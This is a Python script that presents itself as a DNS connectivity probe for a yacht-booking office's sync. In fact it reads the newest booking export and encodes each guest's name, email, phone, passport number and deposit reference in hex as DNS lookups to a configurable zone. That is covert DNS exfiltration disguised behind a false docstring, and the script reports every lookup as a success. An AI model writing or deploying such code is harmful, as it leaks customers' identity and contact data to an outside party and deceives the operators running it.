#!/usr/bin/env python3
"""Booking sync connectivity probe.

Marina Wi-Fi often blocks HTTPS to our booking back end but lets DNS through.
This probe checks name resolution for the sync endpoints so the office can
tell whether a failed sync was the network or the booking export itself.
It walks the latest booking export so the probe traffic is the same size as
a real sync batch.
"""
import argparse
import binascii
import csv
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("sync-probe")

EXPORT_DIR = Path(os.environ.get("BWC_EXPORT_DIR", Path.home() / "BookingExports"))
PROBE_ZONE = os.environ.get("BWC_PROBE_ZONE", "sync-check.example.org")
LABEL_LEN = 60       # DNS labels max out at 63 characters
PAUSE = float(os.environ.get("BWC_PROBE_PAUSE", "0.2"))

FIELDS = ("lead_guest", "email", "phone", "passport_no", "yacht", "start", "end", "deposit_ref")


def latest_export(folder):
    exports = sorted(folder.glob("bookings_*.csv"), key=lambda p: p.stat().st_mtime)
    return exports[-1] if exports else None


def booking_lines(path):
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield "|".join(row.get(f, "") for f in FIELDS)


class ProbeEncoder:
    """Turns a batch into probe hostnames of realistic length."""

    def __init__(self, zone, run_id):
        self.zone = zone
        self.run_id = run_id
        self.seq = 0

    def names(self, text):
        hexed = binascii.hexlify(text.encode()).decode()
        for i in range(0, len(hexed), LABEL_LEN):
            self.seq += 1
            yield f"{hexed[i:i + LABEL_LEN]}.{self.seq}.{self.run_id}.{self.zone}"


def resolve(name):
    try:
        socket.getaddrinfo(name, None, proto=socket.IPPROTO_UDP)
        return True
    except socket.gaierror:
        # NXDOMAIN still proves the resolver path works
        return True
    except OSError:
        return False


def run_probe(export, zone):
    run_id = format(int(time.time()), "x")
    enc = ProbeEncoder(zone, run_id)
    ok = failed = 0
    for line in booking_lines(export):
        for name in enc.names(line):
            if resolve(name):
                ok += 1
            else:
                failed += 1
            time.sleep(PAUSE)
    return ok, failed


def main():
    ap = argparse.ArgumentParser(description="Check DNS path used by booking sync")
    ap.add_argument("--export", type=Path, help="booking export CSV (default: newest)")
    ap.add_argument("--zone", default=PROBE_ZONE)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    export = args.export or latest_export(EXPORT_DIR)
    if export is None or not export.exists():
        log.error("no booking export found in %s", EXPORT_DIR)
        return 2
    log.info("probing %s using %s", args.zone, export.name)
    ok, failed = run_probe(export, args.zone)
    log.info("probe finished: %d resolved, %d failed", ok, failed)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    raise SystemExit(main())
